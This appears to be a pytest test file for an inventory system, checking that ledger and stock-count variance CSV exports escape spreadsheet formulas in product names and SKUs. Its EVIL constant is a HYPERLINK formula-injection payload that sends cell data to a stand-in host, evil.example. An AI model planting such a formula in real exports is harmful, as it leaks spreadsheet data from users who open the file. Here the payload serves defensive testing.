"""CSV exports never hand a spreadsheet a formula: the ledger's and a count's variance CSV
quote text typed like one (a product name, a SKU, a reason); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from core.spreadsheet import safe_cell
from counts.services import passes as P
from counts.services import sessions as S
from inventory.models import Role
from tests.factories import MembershipFactory, ProductFactory
from tests.stock_helpers import loc, receive

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        ("-5.0000", "-5.0000"),
        ("+3", "+3"),
        (Decimal("-2"), Decimal("-2")),
        (7, 7),
        ("Blue Dream", "Blue Dream"),
        (EVIL, "'" + EVIL),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-1+2", "'-1+2"),
        ("-Infinity", "'-Infinity"),
        ("\tx", "'\tx"),
        ("\r=1", "'\r=1"),
    ],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


def test_the_ledger_csv_quotes_a_formula_in_a_name_or_reason(org, store, client_for):
    product = ProductFactory(org=org, sku="+EVIL", name=EVIL)
    receive(org, store, product, 5)
    response = client_for(Role.VIEWER).get("/api/v1/ledger/?format=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows, "the receipt's ledger row"
    row = rows[0]
    assert row["sku"] == "'+EVIL"
    assert Decimal(row["qty_delta"]) == 5  # figures stay figures


def test_a_counts_variance_csv_quotes_a_formula_in_a_name(org, store, client_for):
    product = ProductFactory(org=org, sku="EVIL", name=EVIL, category="Flower")
    sf = loc(store, "SF")
    receive(org, store, product, 5)
    manager = MembershipFactory(org=org, role=Role.MANAGER).user
    session = S.session_start(
        org=org,
        session=S.session_create(org=org, store=store, scope="FULL_STORE", actor=manager),
        actor=manager,
    )
    count_pass = P.pass_create(org=org, session=session, location=sf, actor=manager)
    P.lines_add(org=org, count_pass=count_pass, actor=manager, entries=[P.Entry(product, 3)])
    P.pass_submit(org=org, count_pass=count_pass, actor=manager)
    S.session_submit(org=org, session=session, actor=manager)
    response = client_for(Role.MANAGER).get(
        f"/api/v1/counts/sessions/{session.pk}/variance?format=csv"
    )
    assert response.status_code == 200, response.content[:300]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    evil = next(r for r in rows if r["sku"] == "EVIL")
    assert evil["name"] == "'" + EVIL
    assert Decimal(evil["variance"]) == -2
